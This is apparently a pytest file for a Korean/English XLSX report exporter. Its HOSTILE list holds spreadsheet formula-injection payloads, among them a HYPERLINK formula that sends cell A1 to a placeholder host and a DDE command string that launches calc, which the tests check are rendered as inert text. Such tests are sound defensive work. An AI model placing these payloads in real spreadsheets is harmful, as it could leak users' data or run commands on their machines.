import io
import re
import zipfile
from datetime import datetime

import pytest
from python_calamine import CalamineWorkbook

from jejo.kernel.texts import LANGUAGES
from jejo.onboarding.domain.chart import printable
from jejo.onboarding.reports.xlsx import LONGEST, XlsxFile
from onboarding.sample_report import a_report, a_time_table, hostile_report

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?"&A1,"열기")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "{=1+1}",
    "http://example.invalid/",
    "mailto:a@example.invalid",
    "0012",
    "\t=1+1",
    "_x003D_1+1",
    "<f>1+1</f>",
    "\x00\x01\ud800=1",
    "=" + "가" * 40_000,
)


def sheets(content):
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_name_stays_text(text):
    content = XlsxFile().render(hostile_report(text), {})
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        pages = [name for name in parts.namelist() if name.endswith(".xml")]
        for name in pages:
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >/]|<hyperlink", parts.read(name))
        assert not any("externalLink" in name or name.endswith(".bin") for name in parts.namelist())
    shown = printable(text[:LONGEST])[:LONGEST]
    assert sheets(content)["열"][1][:2] == [shown, shown]


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_part_of_the_report_has_its_sheet(language):
    read = sheets(XlsxFile().render(a_report(language), {}))
    expected = {
        "ko": ["요약", "열", "이상", "결과", "제조AI 35군"],
        "en": ["Summary", "Columns", "Anomalies", "Result", "35 AI cells"],
    }
    assert list(read) == expected[language]
    summary, columns, anomalies, result, cells = read.values()
    document = a_report(language)
    written = {cell for line in summary for cell in line}
    assert {action.text for action in document.next_actions} <= written
    assert document.source.sha256 in written
    assert len(columns) == 1 + sum(len(table.columns) for table in document.tables)
    # A table without anomalies says why.
    assert len(anomalies) == 1 + sum(max(len(table.anomalies), 1) for table in document.tables)
    told = {cell for line in result for cell in line}
    label = document.tables[1].label
    assert {driver.name for driver in label.drivers} <= told
    assert {leak.why for leak in label.leaks} <= told
    assert 0.7612 in told
    assert len(cells) == 1 + 35 * 2


def test_figures_and_times_are_not_texts():
    table = a_time_table()
    read = sheets(XlsxFile().render(a_report(tables=(table,)), {}))
    column = read["열"][2]
    assert column[5:11] == [0.94, 21600, pytest.approx(4 / 21600), 171.2, 194.8, 182.31]
    # As the clock on the wall in Korea shows it.
    assert read["이상"][2][2] == datetime.fromisoformat("2025-10-24T14:03")


def test_an_empty_report_has_all_sheets():
    assert len(sheets(XlsxFile().render(a_report(tables=(), next_actions=()), {}))) == 5


def test_the_same_report_gives_the_same_bytes():
    content = XlsxFile().render(a_report(), {})
    assert content == XlsxFile().render(a_report(), {})
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        # Nothing of the moment of writing is in it.
        assert {each.date_time for each in parts.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert set(re.findall(rb">(\d{4}-\d\d-\d\d)T", parts.read("docProps/core.xml"))) == {b"2025-10-24"}
